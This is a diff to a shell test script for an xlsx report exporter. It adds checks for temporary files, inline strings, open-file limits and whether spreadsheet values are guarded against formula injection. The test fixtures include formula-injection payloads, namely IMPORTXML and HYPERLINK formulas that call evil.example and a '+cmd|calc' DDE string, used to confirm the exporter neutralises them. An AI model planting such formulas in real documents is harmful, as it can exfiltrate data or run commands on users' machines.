@@ -11,21 +11,26 @@ LEAD=$(sql "$DB" "SELECT name FROM person WHERE role = 'lead'")
 PRINCIPAL=$(sql "$DB" "SELECT name FROM person WHERE role = 'principal' ORDER BY name LIMIT 1")
 
 # xlsx_dump BOOK DIR: each sheet as DIR/NAME.tsv (cells as the file holds them, strings
-# from the shared table); DIR/formulas counts the formula cells of every sheet.
+# inline or from the shared table); DIR/formulas counts the formula cells of every sheet;
+# DIR/NAME.kinds lists the kinds of its string cells (inlineStr, s), one per line.
 xlsx_dump() {
 	python3 - "$1" "$2" <<'PY'
 import os, re, sys, zipfile
 import xml.etree.ElementTree as ET
 ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
 z = zipfile.ZipFile(sys.argv[1]); out = sys.argv[2]; os.makedirs(out, exist_ok=True)
-shared = ["".join(t.text or "" for t in si.iter("{%s}t" % ns["m"]))
-          for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
+shared = []
+if "xl/sharedStrings.xml" in z.namelist():
+    shared = ["".join(t.text or "" for t in si.iter("{%s}t" % ns["m"]))
+              for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns)]
 wb = ET.fromstring(z.read("xl/workbook.xml"))
 names = [s.get("name") for s in wb.find("m:sheets", ns)]
 formulas = 0
 for i, name in enumerate(names, 1):
     root = ET.fromstring(z.read("xl/worksheets/sheet%d.xml" % i))
     formulas += len(root.findall(".//m:f", ns))
+    kinds = sorted({c.get("t") for c in root.iter("{%s}c" % ns["m"]) if c.get("t") in ("s", "inlineStr")})
+    open(os.path.join(out, name + ".kinds"), "w").write("".join(k + "\n" for k in kinds))
     with open(os.path.join(out, name + ".tsv"), "w") as f:
         for row in root.iter("{%s}row" % ns["m"]):
             cells = {}
@@ -38,6 +43,8 @@ for i, name in enumerate(names, 1):
                 text = "" if v is None else v.text
                 if c.get("t") == "s":
                     text = shared[int(text)]
+                elif c.get("t") == "inlineStr":
+                    text = "".join(t.text or "" for t in c.iter("{%s}t" % ns["m"]))
                 cells[idx] = text.replace("\t", " ").replace("\n", " | ")
             width = max(cells) if cells else 0
             f.write("\t".join(cells.get(k, "") for k in range(1, width + 1)) + "\n")
@@ -52,11 +59,21 @@ F=$("$QREL" findings add --db "$DB" --as "$LEAD" --kind growth --cluster 1.2 \
 "$QREL" recommendations add --db "$DB" --as "$LEAD" --title '+cmd|calc' --text '@SUM(1+1)' \
 	--stakeholders '-2+3' --finding "$F" --priority high >/dev/null
 
+# A note and a rationale that begin as formulas: the note cited in the finding, the
+# rationale a consensus level's.
+NOTE=$("$QREL" evidence add --db "$DB" --as "$LEAD" --site RHS --source interview --cluster 1.2 \
+	'=IMPORTXML("http://evil.example/n")' | sed 's/[^0-9]*\([0-9]*\).*/\1/')
+"$QREL" findings cite --db "$DB" --as "$LEAD" "$F" --note "$NOTE" >/dev/null
+"$QREL" score --db "$DB" --as "$LEAD" --site RHS --cluster 1.2 --level 2 --kind consensus \
+	--rationale '-1+2 rationale' >/dev/null
+
 OUT="$T/out/data.xlsx"
-mkdir -p "$T/out"
-check "report -o data.xlsx writes a workbook" "$QREL" report --db "$DB" --as "$LEAD" -o "$OUT"
+mkdir -p "$T/out" "$T/tmp"
+chmod 700 "$T/tmp"
+check "report -o data.xlsx writes a workbook" env TMPDIR="$T/tmp" "$QREL" report --db "$DB" --as "$LEAD" -o "$OUT"
 check "it is a zip with a workbook in it" python3 -m zipfile -t "$OUT"
 check "no temporary file is left beside it" test "$(ls "$T/out")" = data.xlsx
+check "nor in TMPDIR (the sheets' row files)" test -z "$(ls -A "$T/tmp")"
 check "written 0600" test "$(stat -c %a "$OUT")" = 600
 SHEETS=$(xlsx_dump "$OUT" "$T/x")
 check "sheets: About Scores Findings Recommendations Subgroups Agreement, then the tables" \
@@ -66,8 +83,46 @@ check "the hostile finding is a string with one guard" \
 	grep -qF "	'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")	" "$T/x/Findings.tsv"
 check "the recommendation's title, text and stakeholders too" \
 	grep -q "	'+cmd|calc	'@SUM(1+1)	'-2+3	$F\$" "$T/x/Recommendations.tsv"
+check "the note is in the finding's key evidence, quoted, not a formula" \
+	grep -qF ': "=IMPORTXML("http://evil.example/n")"' "$T/x/Findings.tsv"
+check "a rationale that begins with - is a string with the guard" grep -qF "	'-1+2 rationale" "$T/x/Scores.tsv"
 check "never two guards" sh -c "! grep -qF \"''\" '$T/x/Findings.tsv' '$T/x/Recommendations.tsv'"
 check "the status is on the About sheet" grep -q "^Status	DRAFT$" "$T/x/About.tsv"
+
+# The sheets that grow with the review are written a row at a time (libxlsxwriter's
+# constant_memory mode: each row to a temporary file as the next starts, strings inline);
+# the tables' sheets open no file each, so a review with more tables than open files works.
+for s in About Scores Findings Recommendations Subgroups Agreement; do
+	check "$s is written row by row (inline strings only)" test "$(cat "$T/x/$s.kinds")" = inlineStr
+done
+check "with 64 open files at most, every table's sheet is written" \
+	sh -c "ulimit -n 64 && '$QREL' report --db '$DB' --as '$LEAD' --all-years -o '$T/out/many.xlsx'"
+check "that is $(python3 -c "import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read('xl/workbook.xml').count(b'<sheet '))" \
+	"$T/out/many.xlsx") sheets" python3 -m zipfile -t "$T/out/many.xlsx"
+
+# Every group of the Subgroups sheet is the CSV report's, value for value (rates as
+# percentages to 0.1, ratios to 0.01, as the CSV writes them).
+"$QREL" report --db "$DB" --as "$LEAD" --format csv -o "$T/out/data.csv"
+check "the Subgroups sheet holds the CSV report's groups and values, in its order" \
+	python3 - "$T/out/data.csv" "$T/x/Subgroups.tsv" <<'PY'
+import csv, sys
+want = {}	# (site, cluster, year, metric, dimension, group) -> field -> value, in the CSV's order
+for r in csv.reader(open(sys.argv[1], encoding="utf-8-sig")):
+    if r[0] == "subgroup" and r[8] != "finding":
+        want.setdefault(tuple(r[1:8]), {})[r[8]] = r[9]
+def cell(v, fmt, scale=1):
+    return v if v in ("*", "") else fmt % (float(v) * scale)
+got = []
+for c in [l.rstrip("\n").split("\t") for l in open(sys.argv[2])][1:]:
+    c += [""] * (12 - len(c))
+    got.append(((c[0], c[1], c[2], c[5]), {"enrolled": cell(c[6], "%d"), "count": cell(c[7], "%d"),
+        "rate": cell(c[8], "%.1f%%", 100), "others_rate": cell(c[9], "%.1f%%", 100),
+        "risk_ratio": cell(c[10], "%.4f"), "flagged": "true" if c[11] == "yes" else "false"}))
+ok = len(want) == len(got) > 0
+for (k, fields), (g, values) in zip(want.items(), got):
+    ok = ok and (k[0], k[3], k[4], k[6]) == g and all(values[f] == v for f, v in fields.items())
+sys.exit(0 if ok else 1)
+PY
 
 # Scores: consensus levels only, one row per site and cluster, as stored.
 EXPECT=$(sql "$DB" "SELECT s.code || '|' || c.code || '|' || CASE WHEN sc.insufficient THEN 'NE' ELSE sc.level END
@@ -125,7 +180,8 @@ check "holds no consensus level" test "$(awk -F'\t' 'NR > 1 && $6 != ""' "$T/x/.
 check "no finding" test "$(wc -l <"$T/n/Findings.tsv")" = 1
 check "no recommendation" test "$(wc -l <"$T/n/Recommendations.tsv")" = 1
 check "a principal before release: no written finding" sh -c "'$QREL' report --db '$DB' --as '$PRINCIPAL' -o '$T/out/p.xlsx' &&
-	python3 -m zipfile -e '$T/out/p.xlsx' '$T/p' && ! grep -q 'evil.example' '$T/p/xl/sharedStrings.xml'"
+	python3 -m zipfile -e '$T/out/p.xlsx' '$T/p' && ! grep -rq 'evil.example' '$T/p'"
+check "(the lead's holds it)" sh -c "python3 -m zipfile -e '$OUT' '$T/l' && grep -rq 'evil.example' '$T/l'"
 
 # Refusals: standard output, the database itself, and a failure leaves the old file.
 check "xlsx to standard output is refused" sh -c "! '$QREL' report --db '$DB' --as '$LEAD' --format xlsx >/dev/null 2>&1"
